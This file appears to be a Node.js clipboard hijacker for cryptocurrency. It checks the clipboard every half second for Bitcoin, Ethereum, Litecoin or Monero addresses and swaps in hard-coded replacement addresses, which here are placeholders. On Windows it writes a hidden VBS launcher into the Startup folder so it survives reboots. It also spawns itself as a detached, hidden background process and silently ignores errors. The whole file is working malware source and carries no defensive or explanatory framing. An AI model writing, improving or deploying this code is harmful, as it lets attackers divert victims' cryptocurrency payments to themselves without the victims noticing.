const cp = require('child_process');
const path = require('path');
const fs = require('fs');

const wallets = {
  btc: { re: /^(bc1|[13])[a-zA-HJ-NP-Z0-9]{25,42}$/, to: 'bc1qexampleexampleexampleexampleexample0' },
  eth: { re: /^0x[a-fA-F0-9]{40}$/, to: '0x00000000000000000000000000000000000000aa' },
  ltc: { re: /^[LM][a-km-zA-HJ-NP-Z1-9]{26,33}$/, to: 'LexampleexampleexampleexampleExamp' },
  xmr: { re: /^4[0-9AB][1-9A-HJ-NP-Za-km-z]{93}$/, to: '4example' },
};

function getClip() {
  if (process.platform === 'win32') return cp.execSync('powershell -NoProfile -Command Get-Clipboard').toString().trim();
  if (process.platform === 'darwin') return cp.execSync('pbpaste').toString().trim();
  return cp.execSync('xclip -selection clipboard -o').toString().trim();
}

function setClip(value) {
  if (process.platform === 'win32') cp.execSync('powershell -NoProfile -Command "Set-Clipboard -Value \'' + value + '\'"');
  else if (process.platform === 'darwin') cp.spawnSync('pbcopy', { input: value });
  else cp.spawnSync('xclip', ['-selection', 'clipboard'], { input: value });
}

if (process.argv[2] === 'start') {
  if (process.platform === 'win32') {
    const startup = path.join(process.env.APPDATA, 'Microsoft', 'Windows', 'Start Menu', 'Programs', 'Startup', 'clip.vbs');
    fs.writeFileSync(startup, 'CreateObject("WScript.Shell").Run "node ""' + __filename + '"" run", 0');
  }
  cp.spawn(process.execPath, [__filename, 'run'], { detached: true, stdio: 'ignore', windowsHide: true }).unref();
} else {
  let last = '';
  setInterval(() => {
    try {
      const text = getClip();
      if (text === last) return;
      for (const key of Object.keys(wallets)) {
        if (wallets[key].re.test(text)) setClip(wallets[key].to);
      }
      last = text;
    } catch (e) {}
  }, 500);
}
